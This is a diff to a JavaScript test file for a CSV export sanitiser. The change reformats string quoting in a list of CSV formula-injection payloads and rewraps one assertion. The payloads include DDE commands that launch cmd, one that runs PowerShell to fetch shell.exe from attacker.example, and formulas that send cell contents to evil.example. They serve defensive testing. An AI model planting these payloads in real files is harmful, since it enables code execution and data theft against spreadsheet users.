@@ -8,18 +8,18 @@ const PAYLOADS = [
   "=cmd|' /C calc'!A0",
   "=cmd|' /C notepad'!'A1'",
   "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
-  "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: click to see\")",
-  "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
-  "=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/x\", \"Sheet1!A1\")",
-  "=IMAGE(\"http://evil.example/x.png\")",
-  "=WEBSERVICE(\"http://evil.example/\"&A1)",
-  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click to see")',
+  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "Sheet1!A1")',
+  '=IMAGE("http://evil.example/x.png")',
+  '=WEBSERVICE("http://evil.example/"&A1)',
+  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
   "=1+1",
   "=2+5+cmd|' /C calc'!A0",
   "=10+20+cmd|' /C calc'!A0",
   "@SUM(1+1)*cmd|' /C calc'!A0",
   "@SUM(1+9)*cmd|' /C calc'!A0",
-  "@HYPERLINK(\"http://evil.example\")",
+  '@HYPERLINK("http://evil.example")',
   "+1+1",
   "+1-1",
   "-1+1",
@@ -38,7 +38,7 @@ const PAYLOADS = [
   "\t-2+3+cmd|' /C calc'!A0",
   " =1+1",
   "  +1+1",
-  "\"=1+1\"",
+  '"=1+1"',
   "'=1+1",
   "\u0000=1+1",
   "\u00a0=1+1",
@@ -85,6 +85,8 @@ describe("CSV export cells", () => {
     expect(csvCell('say "hi", ok')).toBe('"say ""hi"", ok"');
     expect(csvCell("a;=1+1")).toBe('"a;=1+1"');
     expect(csvCell("line\n=1+1")).toBe('"line\n=1+1"');
-    expect(csvLine(["+4520123456", "=1+1", "-2+3+cmd|' /C calc'!A0"])).toBe("+4520123456,'=1+1,'-2+3+cmd|' /C calc'!A0\r\n");
+    expect(csvLine(["+4520123456", "=1+1", "-2+3+cmd|' /C calc'!A0"])).toBe(
+      "+4520123456,'=1+1,'-2+3+cmd|' /C calc'!A0\r\n",
+    );
   });
 });
